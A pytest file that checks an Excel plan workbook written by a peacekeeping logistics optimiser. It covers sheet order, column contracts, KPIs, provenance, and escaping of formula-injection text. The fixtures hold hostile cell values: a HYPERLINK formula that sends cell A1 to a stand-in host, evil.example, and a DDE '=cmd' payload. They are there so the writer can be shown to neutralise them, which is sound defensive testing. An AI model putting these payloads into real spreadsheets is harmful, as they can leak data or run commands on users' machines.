"""The plan workbook: contract sheets and columns, safe text, KPIs, provenance, and clean opening."""

from __future__ import annotations

import datetime as dt
import math
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from logistics.io.reader import read_workbook
from logistics.io.xlsx import TABLE_NAME_RE, safe_text
from logistics.report.plan_workbook import build_plan_workbook, write_plan_workbook
from logistics.report.run_sheet import STAGES, RunInfo
from logistics.rules import registry
from logistics.rules import schemas as s
from models.results import TABLE_COLUMNS, Plan, SolveStatus, TierOutcome
from tests.libreoffice import convert_to_pdf

EVIL_LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CONTRACT_SHEETS = {
    "Allocation": "allocation",
    "Garrison": "garrison",
    "Convoys": "convoys",
    "ConvoyVehicles": "convoy_vehicles",
    "Cargo": "cargo",
    "Stock": "stock",
    "Shortfalls": "shortfalls",
    "EndStock": "end_stock",
    "Routes": "routes",
}
REQUIRED_KPIS = (
    "status",
    "mip_gap_pct",
    "objective",
    "total_wall_s",
    "demand_met_pct",
    "shortfall_total",
    "convoys",
    "vehicle_km",
    "exposure",
    "garrison_shortfall",
)
TIMINGS = {
    "read": 0.5,
    "compile": 0.25,
    "build": 1.0,
    "transfer": 0.25,
    "solve": 4.0,
    "extract": 0.5,
    "write": 0.5,
}


# --------------------------------------------------------------------------------------------------
# Fixtures: a three-base sector whose plan tables agree with each other and with the scenario
# --------------------------------------------------------------------------------------------------


@pytest.fixture
def scenario() -> s.Scenario:
    """Gao hub, Kidal and Tessalit camps; unit names and descriptions carry hostile text."""
    return s.Scenario(
        settings=s.Settings(
            scenario_name="+Sector North", start_date=dt.date(2024, 1, 1), horizon_days=3
        ),
        supplies=(
            s.Supply(
                supply_id="WATER",
                unit=s.SupplyUnit.kL,
                mass_t_per_unit=1.0,
                cargo_type=s.CargoType.water,
                priority=1,
                safety_stock_days=3,
            ),
            s.Supply(
                supply_id="RATIONS",
                unit=s.SupplyUnit.t,
                mass_t_per_unit=1.0,
                cargo_type=s.CargoType.dry,
                priority=2,
            ),
        ),
        consumption=(
            s.Consumption(supply_id="WATER", quantity_per_person_day=0.084),
            s.Consumption(supply_id="WATER", base_kind="team_site", quantity_per_person_day=0.03),
            s.Consumption(supply_id="RATIONS", quantity_per_person_day=0.003),
        ),
        bases=(
            s.Base(
                base_id="GAO",
                name="Gao",
                kind=s.BaseKind.hub,
                sector="East",
                latitude_deg=16.27,
                longitude_deg=-0.04,
                accommodation_troops=2000,
                min_garrison_troops=100,
                airfield_class=s.AirfieldClass.paved_runway,
            ),
            s.Base(
                base_id="KID",
                name="@Kidal",
                kind=s.BaseKind.camp,
                sector="North",
                latitude_deg=18.44,
                longitude_deg=1.41,
                accommodation_troops=800,
                min_garrison_troops=300,
                airfield_class=s.AirfieldClass.helipad,
            ),
            s.Base(
                base_id="TES",
                name="Tessalit",
                kind=s.BaseKind.camp,
                sector="North",
                latitude_deg=20.2,
                longitude_deg=1.01,
                accommodation_troops=600,
                min_garrison_troops=200,
            ),
        ),
        stocks=(
            s.Stock(base_id="KID", supply_id="WATER", capacity=500, initial_stock=100),
            s.Stock(base_id="TES", supply_id="WATER", capacity=300, initial_stock=50),
        ),
        sources=(s.Source(base_id="GAO", supply_id="WATER", quantity_per_day=1000),),
        demands=(
            s.Demand(
                demand_id="D1",
                base_id="KID",
                supply_id="WATER",
                quantity_per_day=5,
                description="-humanitarian",
            ),
        ),
        routes=(
            s.Route(
                route_id="R1",
                from_base_id="GAO",
                to_base_id="KID",
                mode=s.Mode.road,
                distance_km=350,
                transit_days=1,
                threat_level=3,
            ),
            s.Route(
                route_id="R2",
                from_base_id="KID",
                to_base_id="TES",
                mode=s.Mode.road,
                distance_km=200,
                transit_days=1,
                threat_level=4,
            ),
            s.Route(
                route_id="A1",
                from_base_id="GAO",
                to_base_id="KID",
                mode=s.Mode.air,
                distance_km=300,
                transit_days=1,
            ),
            s.Route(
                route_id="R9",
                from_base_id="GAO",
                to_base_id="TES",
                mode=s.Mode.road,
                distance_km=900,
                transit_days=3,
                two_way=False,
            ),
        ),
        vehicles=(
            s.Vehicle(
                vehicle_type_id="TRUCK",
                name="=1+1 truck",
                mode=s.Mode.road,
                cargo_types=("dry", "water"),
                payload_t=10,
                cost_usd_per_km=2,
            ),
            s.Vehicle(
                vehicle_type_id="HELI",
                name="Mi-8",
                mode=s.Mode.air,
                cargo_types=("dry",),
                payload_t=4,
                cost_usd_per_flight_hour=3000,
                speed_kmh=200,
            ),
        ),
        fleet=(
            s.FleetEntry(base_id="GAO", vehicle_type_id="TRUCK", count=20),
            s.FleetEntry(base_id="GAO", vehicle_type_id="HELI", count=2),
        ),
        convoys=(
            s.ConvoyLine(
                line_id="L1", origin_base_id="GAO", destination_base_id="TES", via_base_ids=("KID",)
            ),
        ),
        threats=(
            s.Threat(
                threat_id="T1",
                threat_type=s.ThreatType.ied,
                level=4,
                route_id="R2",
                description="=cmd|' /C calc'!A0",
            ),
        ),
        units=(
            s.Unit(
                unit_id="U1",
                name=EVIL_LINK,
                country="+1",
                unit_type=s.UnitType.convoy_escort,
                strength=150,
                current_base_id="GAO",
                escort_capable=True,
            ),
            s.Unit(
                unit_id="U2",
                name="-2",
                country="Chad",
                unit_type=s.UnitType.infantry,
                strength=250,
                current_base_id="GAO",
                allowed_sectors=("North",),
            ),
            s.Unit(
                unit_id="U3",
                name="@SUM(A1)",
                country="Togo",
                unit_type=s.UnitType.mechanised,
                strength=200,
                current_base_id="TES",
                may_move=False,
            ),
            s.Unit(
                unit_id="U4",
                name="Bat\x01talion\x07",
                country="Niger",
                unit_type=s.UnitType.quick_reaction,
                strength=50,
                current_base_id="KID",
                escort_capable=True,
            ),
        ),
    )


def _stock_rows() -> list[tuple[Any, ...]]:
    """Stock of WATER at KID and TES and RATIONS at KID over days 1..3 (RATIONS has no demand)."""
    rows = []
    for base, supply, opening0, arrivals, demand in (
        ("KID", "WATER", 100.0, (60.0, 20.0, 0.0), (40.0, 40.0, 40.0)),
        ("TES", "WATER", 50.0, (0.0, 0.0, 40.0), (30.0, 30.0, 30.0)),
        ("KID", "RATIONS", 0.0, (48.0, 0.0, 0.0), (0.0, 0.0, 0.0)),
    ):
        opening = opening0
        for day in (1, 2, 3):
            met = min(demand[day - 1], opening + arrivals[day - 1])
            closing = opening + arrivals[day - 1] - met
            dos = closing / demand[day - 1] if demand[day - 1] else float("nan")
            rows.append(
                (base, supply, day, opening, arrivals[day - 1], 0.0, 0.0, demand[day - 1],
                 met, demand[day - 1] - met, closing, 500.0, demand[day - 1] * 3, dos,
                 demand[day - 1])
            )  # fmt: skip
            opening = closing
    return rows


def _frame(key: str, rows: list[tuple[Any, ...]]) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=list(TABLE_COLUMNS[key]))


@pytest.fixture
def plan() -> Plan:
    """A consistent optimal plan: three convoys (two by road, one by air) and a short garrison.

    Vehicle-km by hand: C1 10 trucks × 2 × 350 km = 7,000; C2 6 trucks × 2 × (350 + 200) km =
    6,600; C3 2 helicopters × 2 × 300 km = 1,200; total 14,800.
    """
    tables = {
        "allocation": _frame(
            "allocation",
            [
                ("U1", 150, "GAO", "GAO", 0.0, 0.0, None, None, 0, 0.0),
                ("U2", 250, "GAO", "KID", 350.0, 43750.0, 1, 3, 2, 8750.0),
                ("U3", 200, "TES", "TES", 0.0, 0.0, None, None, 0, 0.0),
                ("U4", 50, "KID", "TES", 200.0, 5000.0, 1, 2, 1, 1000.0),
            ],
        ),
        "garrison": _frame(
            "garrison",
            [
                ("GAO", 100, 150, 0, 0, 1, 2000),
                ("KID", 375, 250, 125, 375, 3, 800),
                ("TES", 275, 250, 25, 75, 4, 600),
            ],
        ),
        "convoys": _frame(
            "convoys",
            [
                ("C1", "L1", "road", "GAO", "GAO > KID", 1, 3, 10, 32, 3, 14000.0, 14000.0, 100.0),
                (
                    "C2",
                    "L1",
                    "road",
                    "GAO",
                    "GAO > KID > TES",
                    2,
                    6,
                    6,
                    32,
                    4,
                    30400.0,
                    13200.0,
                    60.0,
                ),
                ("C3", "AIR", "air", "GAO", "GAO > KID", 1, 2, 2, 0, 1, 600.0, 18000.0, 8.0),
            ],
        ),
        "convoy_vehicles": _frame(
            "convoy_vehicles", [("C1", "TRUCK", 10), ("C2", "TRUCK", 6), ("C3", "HELI", 2)]
        ),
        "cargo": _frame(
            "cargo",
            [
                ("C1", "KID", 2, "WATER", 60.0),
                ("C1", "KID", 2, "RATIONS", 40.0),
                ("C2", "KID", 3, "WATER", 20.0),
                ("C2", "TES", 4, "WATER", 40.0),
                ("C3", "KID", 2, "RATIONS", 8.0),
            ],
        ),
        "stock": _frame("stock", _stock_rows()),
        "shortfalls": _frame(
            "shortfalls",
            [
                ("TES", "WATER", 3, 10.0, "\t=1 escort exhausted"),
                ("KID", "WATER", 3, 5.0, "\r=1"),
            ],
        ),
        "end_stock": _frame(
            "end_stock",
            [
                ("KID", "WATER", 100.0, 100.0, 60.0, 40.0, 2.5, 1.5, "fleet exhausted"),
                ("TES", "WATER", 50.0, 50.0, 10.0, 40.0, 50.0 / 30.0, 10.0 / 30.0, "=1"),
            ],
        ),
        "routes": _frame(
            "routes",
            [
                ("R1", "road", 350.0, 3, 0, "", 3, 3, 2, 16, 11200.0, 26800.0),
                ("R2", "road", 200.0, 2, 1, "3", 4, 5, 1, 6, 2400.0, 17600.0),
                ("A1", "air", 300.0, 3, 0, "", 1, 1, 1, 2, 1200.0, 600.0),
                ("R9", "road", 900.0, 3, 0, "", 1, 1, 0, 0, 0.0, 0.0),
            ],
        ),
    }
    return Plan(
        status=SolveStatus.optimal,
        termination="optimal within 1 % gap",
        objective=12345.678,
        best_bound=12300.0,
        mip_gap_pct=0.37,
        objective_terms={
            "shortfall": 10000.0,
            "garrison": 2000.0,
            "safety_stock": 5.0,
            "exposure": 300.0,
            "cost": 40.678,
        },
        raw_terms={
            "shortfall_units": 10.0,
            "garrison_troop_days": 450.0,
            "safety_stock_unit_days": 5.0,
            "exposure": 45000.0,
            "cost_usd": 94150.0,
        },
        tables=tables,
        timings_s={"build": 1.0, "solve": 4.0, "extract": 0.5},
        model_size={
            "variables": 1200,
            "integer_variables": 80,
            "constraints": 900,
            "nonzeros": 5000,
        },
        tiers=(
            TierOutcome("shortfall", SolveStatus.optimal, "optimal", 10000.0, 10000.0, 0.0, 1.5),
            TierOutcome(
                "exposure + cost", SolveStatus.optimal, "optimal", 340.678, 339.4, 0.37, 2.5
            ),
        ),
    )


@pytest.fixture
def run() -> RunInfo:
    return RunInfo(
        tool_version="0.1.0",
        input_file="/srv/uploads/7f3a9c/mali_north.xlsx",
        input_sha256="ab" * 32,
        solver="HiGHS",
        solver_version="1.15.1",
        started_at=dt.datetime(2024, 1, 1, 8, 30, tzinfo=dt.UTC),
        solver_options={"time_limit": 60.0, "mip_rel_gap": 0.01, "threads": 1},
        timings_s=TIMINGS,
        overrides=("Routes R2 threat_level = 5 (days 2-3)", "=remove unit U9"),
    )


@pytest.fixture
def workbook_path(tmp_path: Path, scenario: s.Scenario, plan: Plan, run: RunInfo) -> Path:
    path = tmp_path / "plan.xlsx"
    write_plan_workbook(path, scenario, plan, run)
    return path


@pytest.fixture
def no_plan_path(tmp_path: Path, scenario: s.Scenario, run: RunInfo) -> Path:
    plan = Plan(
        status=SolveStatus.no_solution,
        termination="time limit reached before any plan was found",
        objective=None,
        best_bound=None,
        mip_gap_pct=None,
        objective_terms={},
        raw_terms={},
        tables={},
    )
    path = tmp_path / "no_plan.xlsx"
    write_plan_workbook(path, scenario, plan, run)
    return path


# --------------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------------


def _load(path: Path) -> Any:
    return openpyxl.load_workbook(path)


def _table_frame(ws: Any, name: str) -> pd.DataFrame:
    """The rows of table ``name`` on ``ws`` as a DataFrame (blank rows of empty tables dropped)."""
    rows = list(ws[ws.tables[name].ref])
    header = [cell.value for cell in rows[0]]
    data = [[cell.value for cell in row] for row in rows[1:]]
    frame = pd.DataFrame(data, columns=header)
    return frame.dropna(how="all").reset_index(drop=True)


def _sheet_frame(wb: Any, sheet: str) -> pd.DataFrame:
    ws = wb[sheet]
    (name,) = ws.tables
    return _table_frame(ws, name)


def _kpis(wb: Any) -> dict[str, Any]:
    frame = _table_frame(wb["Summary"], "KPIs")
    return dict(zip(frame["kpi"], frame["value"], strict=True))


def _cells(wb: Any) -> Iterator[Any]:
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


# --------------------------------------------------------------------------------------------------
# Structure
# --------------------------------------------------------------------------------------------------


def test_sheets_in_order_summary_first(workbook_path: Path) -> None:
    wb = _load(workbook_path)
    inputs = [f"{registry.INPUT_ECHO_PREFIX}{spec.name}" for spec in registry.SHEETS]
    assert wb.sheetnames == [
        "Brief",
        "Summary",
        "DaysOfSupply",
        "Timeline",
        *CONTRACT_SHEETS,
        "Glossary",
        "Run",
        *inputs,
    ]
    assert wb.active.title == "Brief"
    assert all(len(name) <= 31 for name in wb.sheetnames)


def test_every_contract_column_is_present_with_its_exact_name(workbook_path: Path) -> None:
    wb = _load(workbook_path)
    for sheet, key in CONTRACT_SHEETS.items():
        header = list(_sheet_frame(wb, sheet).columns)
        missing = [c for c in TABLE_COLUMNS[key] if c not in header]
        assert not missing, (sheet, missing)
    assert list(_table_frame(wb["Summary"], "KPIs").columns)[:3] == ["kpi", "value", "unit"]
    assert set(REQUIRED_KPIS) <= set(_kpis(wb))
    assert {"unit_name", "country", "unit_type"} <= set(_sheet_frame(wb, "Allocation").columns)
    assert "escort_unit_ids" in _sheet_frame(wb, "Convoys").columns


def test_tables_are_valid_unique_and_match_their_headers(workbook_path: Path) -> None:
    wb = _load(workbook_path)
    names: list[str] = []
    for ws in wb.worksheets:
        for name in ws.tables:
            table = ws.tables[name]
            names.append(name.lower())
            assert TABLE_NAME_RE.match(name)
            header = [cell.value for cell in next(iter(ws[table.ref]))]
            assert [c.name for c in table.tableColumns] == header
            assert all(isinstance(h, str) for h in header)
    assert len(names) == len(set(names))
    assert len(names) >= len(CONTRACT_SHEETS) + len(registry.SHEETS) + 3


def test_result_sheets_have_frozen_headers_filters_and_print_titles(workbook_path: Path) -> None:
    wb = _load(workbook_path)
    for sheet in [*CONTRACT_SHEETS, "Run"]:
        ws = wb[sheet]
        assert ws.freeze_panes == "A2", sheet
        assert ws.print_title_rows == "$1:$1", sheet
        assert ws[ws.tables[sheet].ref.split(":")[0]].value is not None
        assert ws.column_dimensions["A"].width >= 8


def test_no_formula_cells_anywhere(workbook_path: Path, no_plan_path: Path) -> None:
    for path in (workbook_path, no_plan_path):
        wb = _load(path)
        formulas = [c.coordinate for c in _cells(wb) if c.data_type == "f"]
        assert formulas == []
        texts = [c.value for c in _cells(wb) if isinstance(c.value, str)]
        assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]


def test_hostile_text_stays_visible_text(workbook_path: Path, scenario: s.Scenario) -> None:
    wb = _load(workbook_path)
    allocation = _sheet_frame(wb, "Allocation").set_index("unit_id")
    assert allocation.loc["U1", "unit_name"] == "'" + EVIL_LINK
    assert allocation.loc["U1", "country"] == "'+1"
    assert allocation.loc["U2", "unit_name"] == "'-2"
    assert allocation.loc["U3", "unit_name"] == "'@SUM(A1)"
    assert allocation.loc["U4", "unit_name"] == "Battalion"
    reasons = _sheet_frame(wb, "Shortfalls")["reason"].tolist()
    assert reasons == ["'\t=1 escort exhausted", "'\n=1"]
    assert _sheet_frame(wb, "In_Threats")["description"].tolist() == ["'=cmd|' /C calc'!A0"]
    assert _sheet_frame(wb, "ConvoyVehicles")["vehicle_name"].tolist()[0] == "'=1+1 truck"
    assert wb["Summary"]["A1"].value == "Logistics plan: +Sector North"
    assert (
        wb["Summary"]["B3"].value == safe_text(scenario.settings.scenario_name) == "'+Sector North"
    )


def test_ids_and_joined_names_match_the_scenario(workbook_path: Path, plan: Plan) -> None:
    wb = _load(workbook_path)
    allocation = _sheet_frame(wb, "Allocation")
    assert allocation["unit_id"].tolist() == plan.tables["allocation"]["unit_id"].tolist()
    assert allocation["to_base_name"].tolist() == ["Gao", "'@Kidal", "Tessalit", "Tessalit"]
    assert allocation["escort_capable"].tolist() == ["yes", "no", "no", "yes"]
    convoys = _sheet_frame(wb, "Convoys").set_index("convoy_id")
    assert convoys.loc["C2", "path"] == "GAO > KID > TES"
    assert convoys.loc["C2", "vehicles_by_type"] == "TRUCK × 6"
    # Escort units are the escort-capable units allocated to the origin, only where escorts ride.
    assert convoys.loc["C1", "escort_unit_ids"] == "U1"
    assert pd.isna(convoys.loc["C3", "escort_unit_ids"])
    assert convoys["round_trip_km"].tolist() == [700.0, 1100.0, 600.0]
    stock = _sheet_frame(wb, "Stock")
    assert stock["unit"].tolist()[:3] == ["kL"] * 3
    cargo = _sheet_frame(wb, "Cargo")
    assert cargo["unit"].tolist() == ["kL", "t", "kL", "kL", "t"]
    routes = _sheet_frame(wb, "Routes").set_index("route_id")
    # C1 and C2 cost split over their legs by km: 14,000 + 13,200 × 350 / 550 on R1.
    assert routes.loc["R1", "cost_usd"] == pytest.approx(14000 + 13200 * 350 / 550)
    assert routes.loc["R2", "cost_usd"] == pytest.approx(13200 * 200 / 550)
    assert routes.loc["A1", "cost_usd"] == pytest.approx(18000)
    assert routes.loc["R9", "cost_usd"] == 0


# --------------------------------------------------------------------------------------------------
# KPIs
# --------------------------------------------------------------------------------------------------


def test_kpis_equal_sums_over_the_plan_tables(workbook_path: Path, plan: Plan) -> None:
    kpis = _kpis(_load(workbook_path))
    stock, convoys = plan.tables["stock"], plan.tables["convoys"]
    garrison = plan.tables["garrison"]
    assert kpis["status"] == "optimal"
    assert kpis["mip_gap_pct"] == 0.4  # 0.37 rounded up: a plan is never said to be closer
    assert kpis["objective"] == 12345.68
    assert kpis["total_wall_s"] == pytest.approx(sum(TIMINGS.values()))
    met_pct = stock["met"].sum() / stock["demand"].sum() * 100  # 95.238 %, cut to 0.1
    assert kpis["demand_met_pct"] == math.floor(met_pct * 10) / 10 == 95.2
    assert kpis["shortfall_total"] == pytest.approx(stock["shortfall"].sum())
    assert kpis["shortfall_WATER"] == pytest.approx(stock["shortfall"].sum())
    assert kpis["shortfall_RATIONS"] == 0
    assert kpis["convoys"] == 3
    assert kpis["air_sorties"] == 2
    assert kpis["vehicle_km"] == pytest.approx(14_800)
    assert kpis["exposure"] == pytest.approx(convoys["exposure"].sum())
    assert kpis["garrison_shortfall"] == garrison["shortfall_troops"].sum() == 150
    assert kpis["troops_allocated"] == 650
    assert kpis["troops_required"] == 750
    assert kpis["units_moved"] == 2
    assert kpis["routes_used"] == 3
    assert kpis["transport_cost_usd"] == pytest.approx(45_200)
    assert kpis["relocation_cost_usd"] == pytest.approx(48_750)
    assert kpis["cost_usd"] == 94150.0


def test_sustainment_kpis_count_stock_below_targets(workbook_path: Path) -> None:
    """Closing WATER: KID 120, 100, 60 and TES 20, 0, 10 against safety targets of 120 and 90;
    KID RATIONS has no demand. Below target: KID days 2-3, TES days 1-3 (2 points, 5 days); the
    worst days of supply is TES day 2 (0). EndStock misses: KID 40 and TES 40. Mission-wide WATER
    days of supply: (100 + 50) / (40 + 30) on day 1, (60 + 10) / (40 + 30) on day 3."""
    kpis = _kpis(_load(workbook_path))
    assert kpis["stock_points_below_safety"] == 2
    assert kpis["stock_point_days_below_safety"] == 5
    assert kpis["worst_days_of_supply"] == 0
    assert kpis["end_stock_misses"] == 2
    assert kpis["end_stock_deficit"] == pytest.approx(80.0)
    assert kpis["days_of_supply_start_WATER"] == 2.1  # 150 / 70 to 0.1
    assert kpis["days_of_supply_end_WATER"] == 1.0


def test_objective_terms_table_shows_weighted_raw_and_share(workbook_path: Path) -> None:
    terms = _table_frame(_load(workbook_path)["Summary"], "ObjectiveTerms")
    terms = terms.set_index("Objective term")
    assert list(terms.index) == [
        "unmet demand",
        "garrison shortfall",
        "stock below safety target",
        "stock below end-of-horizon target",
        "threat exposure",
        "cost",
    ]
    assert terms.loc["garrison shortfall", "Weighted points"] == 2000.0
    assert terms.loc["garrison shortfall", "Amount"] == 450.0
    assert terms.loc["garrison shortfall", "Unit"] == "troop-days"
    assert terms.loc["cost", "Weighted points"] == 40.68
    assert terms["Share of objective, %"].sum() == pytest.approx(100.0, abs=0.2)
    assert terms.loc["unmet demand", "Share of objective, %"] == 81.0  # 10000 / 12345.678


def test_summary_has_two_charts_over_the_chart_data(workbook_path: Path) -> None:
    ws = _load(workbook_path)["Summary"]
    assert len(ws._charts) == 2
    days = _table_frame(ws, "ChartDaysOfSupply")
    # TES (threat 4) before KID (threat 3); GAO has no stock to chart.
    assert list(days.columns) == ["plan day", "TES", "KID"]
    assert days["TES"].tolist() == [0.7, 0.0, 0.3]  # 20 / 30, 0, 10 / 30 to 0.1
    routes = _table_frame(ws, "ChartRoutes")
    assert routes["route_id"].tolist() == ["R1", "R2", "A1"]


def test_conditional_formats_flag_shortfalls(workbook_path: Path) -> None:
    wb = _load(workbook_path)
    garrison_ranges = {str(r.sqref) for r in wb["Garrison"].conditional_formatting}
    column = _sheet_frame(wb, "Garrison").columns.get_loc("shortfall_troops")
    letter = openpyxl.utils.get_column_letter(column + 1)
    assert f"{letter}2:{letter}4" in garrison_ranges
    assert len(list(wb["Stock"].conditional_formatting)) >= 2


def test_number_formats_carry_units(workbook_path: Path) -> None:
    wb = _load(workbook_path)
    stock = wb["Stock"]
    header = [c.value for c in stock[1]]
    dos = stock.cell(row=2, column=header.index("days_of_supply") + 1)
    assert dos.number_format.endswith('" d"')
    allocation = wb["Allocation"]
    header = [c.value for c in allocation[1]]
    assert allocation.cell(
        row=3, column=header.index("relocation_cost_usd") + 1
    ).number_format.startswith('"$"')


# --------------------------------------------------------------------------------------------------
# Inputs echo and provenance
# --------------------------------------------------------------------------------------------------


def test_inputs_echo_every_registry_sheet_exactly(
    workbook_path: Path, scenario: s.Scenario
) -> None:
    wb = _load(workbook_path)
    for spec in registry.SHEETS:
        frame = _sheet_frame(wb, f"{registry.INPUT_ECHO_PREFIX}{spec.name}")
        assert tuple(frame.columns) == spec.columns
        if spec.layout == "table":
            assert len(frame) == len(getattr(scenario, spec.attribute)), spec.name
    settings = _sheet_frame(wb, "In_Settings").set_index("key")["value"]
    assert list(settings.index) == list(s.Settings.model_fields)
    assert settings["horizon_days"] == 3
    assert settings["start_date"] == dt.datetime(2024, 1, 1)
    assert settings["weight_exposure"] == 0.01
    bases = _sheet_frame(wb, "In_Bases")
    assert bases["latitude_deg"].tolist() == [16.27, 18.44, 20.2]
    assert bases["airfield_class"].tolist() == ["paved_runway", "helipad", "none"]
    units = _sheet_frame(wb, "In_Units").set_index("unit_id")
    assert units.loc["U2", "allowed_sectors"] == "North"
    assert units.loc["U3", "may_move"] == "no"
    vehicles = _sheet_frame(wb, "In_Vehicles").set_index("vehicle_type_id")
    assert vehicles.loc["TRUCK", "cargo_types"] == "dry; water"
    assert len(_sheet_frame(wb, "In_ThreatLevels")) == 5


def test_inputs_echo_reads_back_as_the_scenario_solved(
    workbook_path: Path, scenario: s.Scenario, tmp_path: Path
) -> None:
    """The In_ sheets, renamed to the input sheet names, read back as the same scenario; only
    the control characters removed on writing (U4's name) differ."""
    wb = _load(workbook_path)
    for name in list(wb.sheetnames):
        if name.startswith(registry.INPUT_ECHO_PREFIX):
            wb[name].title = name.removeprefix(registry.INPUT_ECHO_PREFIX)
        else:
            wb.remove(wb[name])
    inputs = tmp_path / "inputs.xlsx"
    wb.save(inputs)
    cleaned = scenario.units[3].model_copy(update={"name": "Battalion"})
    expected = scenario.model_copy(update={"units": (*scenario.units[:3], cleaned)})
    assert read_workbook(inputs) == expected


def test_run_sheet_records_provenance(workbook_path: Path) -> None:
    run_rows = _sheet_frame(_load(workbook_path), "Run")
    value = {(r.section, r.item): r.value for r in run_rows.itertuples()}
    assert value[("input", "file")] == "mali_north.xlsx"
    assert value[("input", "sha256")] == "ab" * 32
    assert value[("solver", "name")] == "HiGHS"
    assert value[("solver", "version")] == "1.15.1"
    assert value[("solver option", "mip_rel_gap")] == 0.01
    assert value[("run", "started at")] == "2024-01-01T08:30:00+00:00"
    assert value[("input", "classification")] == "UNCLASSIFIED"
    assert [value[("timing", stage)] for stage in STAGES] == [TIMINGS[s] for s in STAGES]
    assert value[("model size", "nonzeros")] == 5000
    assert value[("override", "1")] == "Routes R2 threat_level = 5 (days 2-3)"
    assert value[("override", "2")] == "'=remove unit U9"
    assert value[("priority", "1 shortfall: status")] == "optimal"
    assert value[("priority", "2 exposure + cost: distance from best possible")] == 0.4
    assert value[("priority", "2 exposure + cost: value")] == 340.68
    assert value[("priority", "2 exposure + cost: time")] == 2.5


def test_write_stage_is_measured_when_not_given(
    scenario: s.Scenario, plan: Plan, run: RunInfo
) -> None:
    timings = {k: v for k, v in TIMINGS.items() if k != "write"}
    wb = build_plan_workbook(scenario, plan, RunInfo(**{**run.__dict__, "timings_s": timings}))
    run_rows = _table_frame(wb["Run"], "Run")
    write_s = run_rows[(run_rows["section"] == "timing") & (run_rows["item"] == "write")]["value"]
    assert float(write_s.iloc[0]) > 0


def test_document_properties_name_the_tool_and_no_paths(
    workbook_path: Path, tmp_path: Path
) -> None:
    props = _load(workbook_path).properties
    assert props.creator == "peacekeeping-logistics 0.1.0"
    assert props.title == "Logistics plan: +Sector North"
    with zipfile.ZipFile(workbook_path) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
    assert b"/srv/uploads" not in xml
    assert str(tmp_path).encode() not in xml
    assert b"<dc:creator>openpyxl</dc:creator>" not in xml
    assert b"mali_north.xlsx" in xml


# --------------------------------------------------------------------------------------------------
# No plan
# --------------------------------------------------------------------------------------------------


def test_no_plan_still_gives_a_workbook_that_says_so(no_plan_path: Path) -> None:
    wb = _load(no_plan_path)
    assert wb.sheetnames[:2] == ["Brief", "Summary"]
    summary_text = " ".join(str(c.value) for row in wb["Summary"].iter_rows() for c in row)
    assert "No plan found" in summary_text
    assert "No plan was found (time limit reached before any plan was found)" in summary_text
    for sheet, key in CONTRACT_SHEETS.items():
        frame = _sheet_frame(wb, sheet)
        assert frame.empty, sheet
        assert set(TABLE_COLUMNS[key]) <= set(frame.columns), sheet
    kpis = _kpis(wb)
    assert kpis["status"] == "no_solution"
    assert kpis["demand_met_pct"] is None
    assert kpis["convoys"] is None
    assert kpis["total_wall_s"] == pytest.approx(sum(TIMINGS.values()))
    assert wb["Summary"]._charts == []
    assert len(_sheet_frame(wb, "In_Units")) == 4


def test_plan_table_missing_a_contract_column_is_refused(
    tmp_path: Path, scenario: s.Scenario, plan: Plan, run: RunInfo
) -> None:
    broken = dict(plan.tables)
    broken["cargo"] = broken["cargo"].drop(columns=["arrival_day"])
    bad = Plan(**{**plan.__dict__, "tables": broken})
    with pytest.raises(ValueError, match="arrival_day"):
        write_plan_workbook(tmp_path / "x.xlsx", scenario, bad, run)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------------------------------
# Opens in LibreOffice
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("which", ["plan", "no_plan"])
def test_libreoffice_converts_the_workbook(
    which: str, workbook_path: Path, no_plan_path: Path, tmp_path: Path
) -> None:
    source = workbook_path if which == "plan" else no_plan_path
    pdf = convert_to_pdf(source, tmp_path)
    assert pdf.stat().st_size > 10_000
